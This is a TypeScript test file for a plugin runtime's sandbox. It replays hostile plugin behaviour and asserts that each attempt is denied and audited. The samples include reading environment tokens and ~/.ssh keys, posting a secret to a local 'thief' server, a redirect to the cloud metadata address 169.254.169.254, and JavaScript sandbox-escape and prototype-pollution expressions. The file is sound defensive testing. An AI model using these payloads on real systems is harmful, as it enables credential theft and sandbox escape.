import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Permission } from '@runtime-hub/plugin-sdk/contract';
import { afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { buildRuntime } from '../../../plugin-sdk/runtime/build.ts';
import { openScene, serve, used, type Scene } from './scene.ts';

/** Public incidents, played again: each is denied, kept in the audit, and told in words an admin understands. */
let scene: Scene;
beforeAll(buildRuntime);
beforeEach(async () => {
  scene = await openScene();
});
afterEach(async () => await scene[Symbol.asyncDispose]());

const ask = (capability: Permission['capability'], target: string): Permission => ({
  capability,
  target,
  reason: 'To do my work.',
});
const request = `async ({ config, context }) => ({ out: await context.call('net.http', 'request', config) })`;

test('a node that reads the environment finds nothing in it, though the hub’s own holds a token', async () => {
  process.env['GITHUB_TOKEN'] = 'ghp_canary';
  try {
    await scene.install({ runtime: 'process', code: '() => ({ out: { ...process.env } })' });
    const told = await scene.play();
    expect(told.code).toBeNull();
    expect(JSON.stringify(told.out)).not.toContain('ghp_canary');
  } finally {
    delete process.env['GITHUB_TOKEN'];
  }
});

test('a node that takes ~/.ssh by itself sees no home; one that asks for it is denied and written down', async () => {
  const key = join(scene.home, '.ssh', 'id_canary');
  mkdirSync(join(scene.home, '.ssh'), { mode: 0o700 });
  writeFileSync(key, 'PRIVATE KEY canary');
  const itself = `async ({ config }) => ({ out: await readFile(config.key, 'utf8') })`;
  const before = `import { readFile } from 'node:fs/promises';`;
  await scene.install({ runtime: 'process', code: itself, before });
  const alone = await scene.play({ key });
  expect(alone.code).toBe('STEP_FAILED');
  expect(JSON.stringify(alone)).not.toContain('PRIVATE KEY');
  const asking = `async ({ config, context }) => ({ out: await context.call('fs.read', 'read', config) })`;
  await scene.install({ code: asking, permissions: [ask('fs.read', '~/invoices/**')] });
  const asked = await scene.play({ path: '~/.ssh/id_canary', keep: 'text' });
  expect(asked.code).toBe('CAPABILITY_DENIED');
  expect(asked.message).toBe('hostile/guest holds no grant for fs.read:~/.ssh/id_canary');
  expect(asked.audit).toEqual([expect.stringMatching(/^denied: Read .*~\/.ssh\/id_canary/u)]);
});

test('a node that posts a credential to its own host is denied, whatever hosts it may reach', async () => {
  scene.hub.secrets.set('mail', 'canary-of-the-mail-account');
  await using thief = await serve((_request, response) => response.end('thanks'));
  const permissions = [ask('net.http', '*'), ask('secrets.use', 'mail@smtp.example.com')];
  await scene.install({ code: request, permissions });
  const headers = { authorization: { $secret: 'mail', prefix: 'Bearer ' } };
  const told = await scene.play({ method: 'POST', url: `${thief.origin}/take`, headers });
  expect(told.code).toBe('CAPABILITY_DENIED');
  expect(told.message).toContain('secrets.use:mail@http://127.0.0.1:');
  expect(told.audit.at(-1)).toMatch(/^denied: Use the secret mail with 127\.0\.0\.1/u);
  expect(thief.seen).toEqual([]);
  expect(JSON.stringify(told)).not.toContain('canary');
});

test('a redirect to the cloud’s metadata is not followed: ungranted it is denied, granted its address is refused', async () => {
  const metadata = 'http://169.254.169.254/latest/meta-data/';
  await using lure = await serve((_request, response) => {
    response.writeHead(302, { location: metadata }).end();
  });
  const once = { method: 'GET', url: `${lure.origin}/start` };
  await scene.install({ code: request, permissions: [ask('net.http', lure.origin)] });
  const narrow = await scene.play(once);
  expect(narrow.code).toBe('CAPABILITY_DENIED');
  expect(narrow.audit).toHaveLength(2);
  expect(narrow.audit.at(-1)).toContain('denied: Send requests to 169.254.169.254');
  await scene.install({ code: request, permissions: [ask('net.http', '*')] });
  const wide = await scene.play(once);
  expect(wide.code).toBe('NET_ADDRESS_REFUSED');
  expect(wide.message).toContain('169.254.169.254');
  expect(lure.seen).toHaveLength(2);
});

test('an update that wants one more host gets nothing by itself: it is asked for, and waits', async () => {
  const granted = ask('net.http', 'api.example.com');
  await scene.install({ code: request, permissions: [granted] });
  await using exfiltration = await serve((_request, response) => response.end());
  const more = ask('net.http', exfiltration.origin);
  await scene.install({ code: request, permissions: [granted, more], approve: false });
  const told = await scene.play({ method: 'GET', url: exfiltration.origin });
  expect(told.code).toBe('CAPABILITY_DENIED');
  expect(exfiltration.seen).toEqual([]);
  const asked = scene.hub.broker.list().filter((it) => it.status === 'requested');
  expect(asked.map((it) => it.permission.target)).toEqual([exfiltration.origin]);
});

test.each([
  `inputs.constructor.constructor("return process")()`,
  `{}.constructor`,
  `"".constructor.fromCharCode(1)`,
  `this.process.mainModule`,
  `[].map.constructor("return 1")()`,
  `steps.__proto__`,
  `inputs["__proto__"]["polluted"]`,
])('an expression that reaches for JavaScript is no expression: %s', async (expression) => {
  await scene.install({ code: '({ config }) => ({ out: config.x })' });
  const { hub } = scene;
  const node = { type: 'hostile/guest:attack', config: { x: { $cel: expression } } };
  const workflow = {
    format: 'runtime-hub/workflow@1',
    name: 'W',
    nodes: { node },
    edges: [],
  } as const;
  const ended = await hub.engine
    .start({ ...workflow, edges: [] })
    .then(async ({ finished }) => (await finished).error?.code)
    .catch((error: unknown) => (error as { readonly code: string }).code);
  expect(['WORKFLOW_INVALID', 'STEP_EXPRESSION_FAILED']).toContain(ended);
});

test('revoked in use, a request, a program and a wait for files end within 250 ms', async () => {
  await using slow = await serve(() => undefined);
  const permissions = [
    ask('net.http', slow.origin),
    ask('process.run', '/bin/sleep'),
    ask('process.run', '/usr/bin/sleep'),
    ask('fs.read', '~/**'),
  ];
  const code = `async ({ config, context }) => ({ out: await context.call(config.capability, config.operation, config.args) })`;
  for (const [capability, operation, args] of [
    ['net.http', 'request', { method: 'GET', url: slow.origin }],
    ['process.run', 'run', { program: '/usr/bin/sleep', args: ['60'] }],
    ['fs.read', 'wait-for-change', { path: '~', after: 0, timeoutMs: 60_000 }],
  ] as const) {
    await scene.install({ code, permissions });
    const inUse = used(scene, capability);
    const playing = scene.play({ capability, operation, args });
    await inUse;
    if (capability === 'net.http')
      await expect.poll(() => slow.seen.length, { timeout: 10_000 }).toBe(1);
    const revokedAt = performance.now();
    scene.hub.broker.revoke({ plugin: 'hostile/guest' as never, capability, by: 'admin' });
    const { code: ended } = await playing;
    const ms = performance.now() - revokedAt;
    expect([capability, ended]).toEqual([capability, 'CAPABILITY_REVOKED']);
    expect(ms, `${capability} ended`).toBeLessThan(250);
  }
});
